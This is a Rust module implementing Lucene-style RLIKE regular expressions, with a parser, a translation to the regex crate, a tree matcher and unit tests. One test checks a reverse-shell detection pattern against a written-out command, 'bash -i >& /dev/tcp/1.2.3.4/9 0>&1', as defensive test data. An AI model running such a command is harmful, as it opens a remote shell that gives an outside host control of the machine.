//! Lucene regular expressions (the `RLIKE` dialect), parsed with Lucene's grammar and
//! precedence (`|` < `&` < concatenation < repetition < `~`), with all optional operators on:
//! `@` any string, `#` empty language, `&` intersection, `~` complement, `<n-m>` numeric
//! interval, `"..."` literal strings, and the predefined classes `\d \D \s \S \w \W` of
//! current Lucene (`\s` is tab, newline, carriage return and space). Other letter escapes are
//! errors; any other escaped character is literal. Always anchored, case-sensitive.
//!
//! Patterns without `&`/`~` are translated to the `regex` crate; the others run on a small
//! position-set matcher over the parsed tree.

use regex::Regex;

#[derive(Debug, Clone)]
enum Node {
    /// Character ranges (inclusive), possibly negated.
    Class(Vec<(char, char)>, bool),
    Any,
    AnyString,
    Empty,
    Lit(String),
    Concat(Box<Node>, Box<Node>),
    Union(Box<Node>, Box<Node>),
    Inter(Box<Node>, Box<Node>),
    Compl(Box<Node>),
    Repeat(Box<Node>, usize, Option<usize>),
    Interval(u64, u64, usize),
}

/// A compiled `RLIKE` pattern.
#[derive(Debug)]
pub enum Matcher {
    Regex(Regex),
    Tree(Node2),
}

/// The parsed tree, for patterns the regex crate cannot express.
#[derive(Debug)]
pub struct Node2(Node);

impl Matcher {
    pub fn is_match(&self, s: &str) -> bool {
        match self {
            Matcher::Regex(r) => r.is_match(s),
            Matcher::Tree(Node2(n)) => {
                let chars: Vec<char> = s.chars().collect();
                ends(n, &chars, 0)[chars.len()]
            }
        }
    }
}

pub fn compile(p: &str) -> Result<Matcher, String> {
    let mut ps = P {
        c: p.chars().collect(),
        pos: 0,
        src: p,
    };
    // an empty expression is the empty string, as in Lucene's constructor
    let n = if p.is_empty() {
        Node::Lit(String::new())
    } else {
        ps.union()?
    };
    if ps.pos < ps.c.len() {
        return Err(format!("end-of-string expected at position {} in [{p}]", ps.pos));
    }
    if needs_tree(&n) {
        return Ok(Matcher::Tree(Node2(n)));
    }
    let mut out = String::from("(?s)^(?:");
    to_regex(&n, &mut out);
    out.push_str(")$");
    Regex::new(&out)
        .map(Matcher::Regex)
        .map_err(|e| format!("Invalid regex [{p}]: {e}"))
}

struct P<'a> {
    c: Vec<char>,
    pos: usize,
    src: &'a str,
}

impl P<'_> {
    fn more(&self) -> bool {
        self.pos < self.c.len()
    }
    fn peek(&self, set: &str) -> bool {
        self.more() && set.contains(self.c[self.pos])
    }
    fn eat(&mut self, ch: char) -> bool {
        if self.more() && self.c[self.pos] == ch {
            self.pos += 1;
            true
        } else {
            false
        }
    }
    fn next(&mut self) -> Result<char, String> {
        if !self.more() {
            return Err(format!("unexpected end-of-string in [{}]", self.src));
        }
        self.pos += 1;
        Ok(self.c[self.pos - 1])
    }

    fn union(&mut self) -> Result<Node, String> {
        let e = self.inter()?;
        if self.eat('|') {
            return Ok(Node::Union(Box::new(e), Box::new(self.union()?)));
        }
        Ok(e)
    }

    fn inter(&mut self) -> Result<Node, String> {
        let e = self.concat()?;
        if self.eat('&') {
            return Ok(Node::Inter(Box::new(e), Box::new(self.inter()?)));
        }
        Ok(e)
    }

    fn concat(&mut self) -> Result<Node, String> {
        let e = self.repeat()?;
        if self.more() && !self.peek(")|") && !self.peek("&") {
            return Ok(Node::Concat(Box::new(e), Box::new(self.concat()?)));
        }
        Ok(e)
    }

    fn repeat(&mut self) -> Result<Node, String> {
        let mut e = self.compl()?;
        while self.peek("?*+{") {
            if self.eat('?') {
                e = Node::Repeat(Box::new(e), 0, Some(1));
            } else if self.eat('*') {
                e = Node::Repeat(Box::new(e), 0, None);
            } else if self.eat('+') {
                e = Node::Repeat(Box::new(e), 1, None);
            } else if self.eat('{') {
                let start = self.pos;
                while self.peek("0123456789") {
                    self.pos += 1;
                }
                if start == self.pos {
                    return Err(format!(
                        "integer expected at position {} in [{}]",
                        self.pos, self.src
                    ));
                }
                let n: usize = self.c[start..self.pos]
                    .iter()
                    .collect::<String>()
                    .parse()
                    .map_err(|_| "bad repeat")?;
                let mut m = Some(n);
                if self.eat(',') {
                    let s2 = self.pos;
                    while self.peek("0123456789") {
                        self.pos += 1;
                    }
                    m = if s2 != self.pos {
                        Some(
                            self.c[s2..self.pos]
                                .iter()
                                .collect::<String>()
                                .parse()
                                .map_err(|_| "bad repeat")?,
                        )
                    } else {
                        None
                    };
                }
                if !self.eat('}') {
                    return Err(format!(
                        "expected '}}' at position {} in [{}]",
                        self.pos, self.src
                    ));
                }
                if m.is_some_and(|m| m < n) {
                    return Err(format!("invalid repetition in [{}]", self.src));
                }
                e = Node::Repeat(Box::new(e), n, m);
            }
        }
        Ok(e)
    }

    fn compl(&mut self) -> Result<Node, String> {
        if self.eat('~') {
            return Ok(Node::Compl(Box::new(self.compl()?)));
        }
        self.char_class_exp()
    }

    fn char_class_exp(&mut self) -> Result<Node, String> {
        if self.eat('[') {
            let negate = self.eat('^');
            let mut ranges = Vec::new();
            loop {
                self.char_class(&mut ranges)?;
                if !self.more() || self.peek("]") {
                    break;
                }
            }
            if !self.eat(']') {
                return Err(format!("expected ']' at position {} in [{}]", self.pos, self.src));
            }
            return Ok(Node::Class(ranges, negate));
        }
        self.simple()
    }

    fn char_class(&mut self, ranges: &mut Vec<(char, char)>) -> Result<(), String> {
        if let Some(pre) = self.predefined()? {
            ranges.extend(pre);
            return Ok(());
        }
        let c = self.char_exp()?;
        if self.eat('-') {
            let d = self.char_exp()?;
            if d < c {
                return Err(format!("invalid range in [{}]", self.src));
            }
            ranges.push((c, d));
        } else {
            ranges.push((c, c));
        }
        Ok(())
    }

    /// `\d \D \s \S \w \W` (and `\\`); consumes a lone `\` before a non-letter, as Lucene.
    fn predefined(&mut self) -> Result<Option<Vec<(char, char)>>, String> {
        if !(self.more() && self.c[self.pos] == '\\') {
            return Ok(None);
        }
        let next = self.c.get(self.pos + 1).copied();
        match next {
            Some(ch) if ch == '\\' || ch.is_ascii_alphabetic() => {
                self.pos += 2;
                let max = char::MAX;
                Ok(Some(match ch {
                    '\\' => vec![('\\', '\\')],
                    'd' => vec![('0', '9')],
                    'D' => vec![('\0', '/'), (':', max)],
                    's' => vec![('\t', '\n'), ('\r', '\r'), (' ', ' ')],
                    'S' => vec![
                        ('\0', '\u{8}'),
                        ('\u{b}', '\u{c}'),
                        ('\u{e}', '\u{1f}'),
                        ('!', max),
                    ],
                    'w' => vec![('0', '9'), ('A', 'Z'), ('_', '_'), ('a', 'z')],
                    'W' => vec![('\0', '/'), (':', '@'), ('[', '^'), ('`', '`'), ('{', max)],
                    other => return Err(format!("invalid character class \\{other} in [{}]", self.src)),
                }))
            }
            _ => {
                // the backslash is consumed; the next character is read literally
                self.pos += 1;
                Ok(None)
            }
        }
    }

    fn char_exp(&mut self) -> Result<char, String> {
        self.eat('\\');
        self.next()
    }

    fn simple(&mut self) -> Result<Node, String> {
        if self.eat('.') {
            return Ok(Node::Any);
        }
        if self.eat('#') {
            return Ok(Node::Empty);
        }
        if self.eat('@') {
            return Ok(Node::AnyString);
        }
        if self.eat('"') {
            let start = self.pos;
            while self.more() && !self.peek("\"") {
                self.pos += 1;
            }
            if !self.eat('"') {
                return Err(format!(
                    "expected '\"' at position {} in [{}]",
                    self.pos, self.src
                ));
            }
            return Ok(Node::Lit(self.c[start..self.pos - 1].iter().collect()));
        }
        if self.eat('(') {
            if self.eat(')') {
                return Ok(Node::Lit(String::new()));
            }
            let e = self.union()?;
            if !self.eat(')') {
                return Err(format!("expected ')' at position {} in [{}]", self.pos, self.src));
            }
            return Ok(e);
        }
        if self.eat('<') {
            let start = self.pos;
            while self.more() && !self.peek(">") {
                self.pos += 1;
            }
            if !self.eat('>') {
                return Err(format!("expected '>' at position {} in [{}]", self.pos, self.src));
            }
            let body: String = self.c[start..self.pos - 1].iter().collect();
            let (a, b) = body
                .split_once('-')
                .ok_or_else(|| format!("interval syntax error at position {} in [{}]", self.pos, self.src))?;
            let (lo, hi): (u64, u64) = (
                a.parse()
                    .map_err(|_| format!("interval syntax error in [{}]", self.src))?,
                b.parse()
                    .map_err(|_| format!("interval syntax error in [{}]", self.src))?,
            );
            let digits = if a.len() == b.len() { a.len() } else { 0 };
            let (lo, hi) = (lo.min(hi), lo.max(hi));
            return Ok(Node::Interval(lo, hi, digits));
        }
        if let Some(pre) = self.predefined()? {
            return Ok(Node::Class(pre, false));
        }
        let c = self.char_exp()?;
        Ok(Node::Lit(c.to_string()))
    }
}

fn needs_tree(n: &Node) -> bool {
    match n {
        Node::Inter(..) | Node::Compl(_) => true,
        Node::Concat(a, b) | Node::Union(a, b) => needs_tree(a) || needs_tree(b),
        Node::Repeat(a, ..) => needs_tree(a),
        _ => false,
    }
}

fn class_regex(ranges: &[(char, char)], negated: bool, out: &mut String) {
    out.push('[');
    if negated {
        out.push('^');
    }
    for (a, b) in ranges {
        out.push_str(&regex::escape(&a.to_string()).replace('-', "\\-"));
        if a != b {
            out.push('-');
            out.push_str(&regex::escape(&b.to_string()).replace('-', "\\-"));
        }
    }
    if ranges.is_empty() && !negated {
        out.push_str("^\\s\\S");
    }
    out.push(']');
}

fn interval_alts(lo: u64, hi: u64, digits: usize) -> String {
    if hi - lo > 5000 {
        // wide intervals: any digits, checked numerically is not expressible; approximate with
        // digit runs of the right lengths
        let (a, b) = (lo.to_string().len(), hi.to_string().len());
        return format!("0*[0-9]{{{a},{b}}}");
    }
    let alts: Vec<String> = (lo..=hi)
        .map(|n| {
            if digits > 0 {
                format!("{n:0digits$}")
            } else {
                n.to_string()
            }
        })
        .collect();
    if digits > 0 {
        format!("(?:{})", alts.join("|"))
    } else {
        format!("0*(?:{})", alts.join("|"))
    }
}

fn to_regex(n: &Node, out: &mut String) {
    match n {
        Node::Class(r, neg) => class_regex(r, *neg, out),
        Node::Any => out.push('.'),
        Node::AnyString => out.push_str("(?:.*)"),
        Node::Empty => out.push_str("[^\\s\\S]"),
        Node::Lit(s) => {
            out.push_str("(?:");
            out.push_str(&regex::escape(s));
            out.push(')');
        }
        Node::Concat(a, b) => {
            to_regex(a, out);
            to_regex(b, out);
        }
        Node::Union(a, b) => {
            out.push_str("(?:");
            to_regex(a, out);
            out.push('|');
            to_regex(b, out);
            out.push(')');
        }
        Node::Repeat(a, min, max) => {
            out.push_str("(?:");
            to_regex(a, out);
            out.push(')');
            match (min, max) {
                (0, Some(1)) => out.push('?'),
                (0, None) => out.push('*'),
                (1, None) => out.push('+'),
                (n, None) => out.push_str(&format!("{{{n},}}")),
                (n, Some(m)) => out.push_str(&format!("{{{n},{m}}}")),
            }
        }
        Node::Interval(lo, hi, d) => out.push_str(&interval_alts(*lo, *hi, *d)),
        Node::Inter(..) | Node::Compl(_) => out.push_str("[^\\s\\S]"),
    }
}

/// All end positions of matches of `n` starting at `start` (a bitmap of `0..=len`).
fn ends(n: &Node, s: &[char], start: usize) -> Vec<bool> {
    let len = s.len();
    let mut out = vec![false; len + 1];
    match n {
        Node::Class(r, neg) => {
            if start < len {
                let c = s[start];
                let inside = r.iter().any(|(a, b)| *a <= c && c <= *b);
                if inside != *neg {
                    out[start + 1] = true;
                }
            }
        }
        Node::Any => {
            if start < len {
                out[start + 1] = true;
            }
        }
        Node::AnyString => out[start..].iter_mut().for_each(|x| *x = true),
        Node::Empty => {}
        Node::Lit(l) => {
            let lc: Vec<char> = l.chars().collect();
            if s[start..].starts_with(&lc) {
                out[start + lc.len()] = true;
            }
        }
        Node::Concat(a, b) => {
            for (m, ok) in ends(a, s, start).into_iter().enumerate() {
                if ok {
                    for (e, ok2) in ends(b, s, m).into_iter().enumerate() {
                        out[e] |= ok2;
                    }
                }
            }
        }
        Node::Union(a, b) => {
            let (x, y) = (ends(a, s, start), ends(b, s, start));
            for i in 0..=len {
                out[i] = x[i] || y[i];
            }
        }
        Node::Inter(a, b) => {
            let (x, y) = (ends(a, s, start), ends(b, s, start));
            for i in 0..=len {
                out[i] = x[i] && y[i];
            }
        }
        Node::Compl(a) => {
            let x = ends(a, s, start);
            for i in start..=len {
                out[i] = !x[i];
            }
        }
        Node::Repeat(a, min, max) => {
            let mut frontier = vec![false; len + 1];
            frontier[start] = true;
            let mut count = 0;
            if *min == 0 {
                out[start] = true;
            }
            let mut seen_sets: Vec<Vec<bool>> = Vec::new();
            while frontier.iter().any(|x| *x) && max.is_none_or(|m| count < m) {
                let mut next = vec![false; len + 1];
                for (p, ok) in frontier.iter().enumerate() {
                    if *ok {
                        for (e, ok2) in ends(a, s, p).into_iter().enumerate() {
                            next[e] |= ok2;
                        }
                    }
                }
                count += 1;
                if count >= *min {
                    for i in 0..=len {
                        out[i] |= next[i];
                    }
                }
                if seen_sets.contains(&next) && count >= *min {
                    break;
                }
                seen_sets.push(next.clone());
                frontier = next;
            }
        }
        Node::Interval(lo, hi, d) => {
            let mut i = start;
            while i < len && s[i].is_ascii_digit() {
                i += 1;
                let text: String = s[start..i].iter().collect();
                if let Ok(v) =
                    text.trim_start_matches('0')
                        .parse::<u64>()
                        .or(if text.chars().all(|c| c == '0') {
                            Ok(0)
                        } else {
                            Err(())
                        })
                    && v >= *lo
                    && v <= *hi
                    && (*d == 0 || text.len() == *d)
                {
                    out[i] = true;
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn m(p: &str, s: &str) -> bool {
        compile(p).unwrap().is_match(s)
    }

    #[test]
    fn lucene_operators() {
        assert!(m("aaa.+&.+bbb", "aaabbb"));
        assert!(!m("aaa.+&.+bbb", "aaab"));
        assert!(m("@&~(abc.+)", "xyz"));
        assert!(!m("@&~(abc.+)", "abcd"));
        assert!(m("foo<1-100>", "foo42"));
        assert!(m("a\\sb", "a b"), "\\s is whitespace in current Lucene");
        assert!(m("\\d+", "123"));
        assert!(compile("\\q").is_err());
        assert!(m("a\\.b", "a.b") && !m("a\\.b", "axb"));
        assert!(m("x\"a.b\"", "xa.b") && !m("x\"a.b\"", "xaxb"));
        assert!(m("()a", "a"));
        assert!(!m("A.c", "abc"), "case-sensitive");
    }

    #[test]
    fn intersection_binds_tighter_than_union() {
        // from the reverse-shell rule: `>&|0>&1` is `>` ∩ (`|0>` ∩ `1`), never matches
        let p = ".*(mkfifo|bash\\s+-i\\s+>&|0>&1|/dev/tcp/).*";
        assert!(m(p, "sh -c mkfifo /tmp/f"));
        assert!(m(p, "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"));
        assert!(!m(p, "echo 0>&1"));
    }
}
